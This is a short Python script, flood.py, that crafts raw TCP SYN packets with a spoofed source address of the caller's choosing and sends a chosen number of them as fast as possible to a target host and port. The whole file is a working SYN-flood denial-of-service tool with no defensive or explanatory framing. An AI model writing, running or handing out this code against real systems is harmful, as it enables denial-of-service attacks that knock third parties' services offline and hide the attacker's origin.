"""flood.py SOURCE ADDRESS PORT COUNT: so many first packets of TCP connections, as fast as they go."""

from __future__ import annotations

import random
import socket
import struct
import sys


def checksum(content: bytes) -> int:
    """RFC 1071."""
    words = sum(struct.unpack(f"!{len(content) // 2}H", content))
    total: int = (words >> 16) + (words & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source: bytes, address: bytes, port: int, number: int) -> bytes:
    """One SYN."""
    tcp = struct.pack("!HHIIBBHHH", 1024 + number, port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    sealed = checksum(source + address + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", sealed) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number, 0, 64, socket.IPPROTO_TCP, 0, source, address) + tcp


def main() -> None:
    """Send them."""
    source, address = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as stream:
        for number in range(int(sys.argv[4])):
            stream.sendto(packet(source, address, int(sys.argv[3]), number), (sys.argv[2], 0))


if __name__ == "__main__":
    main()
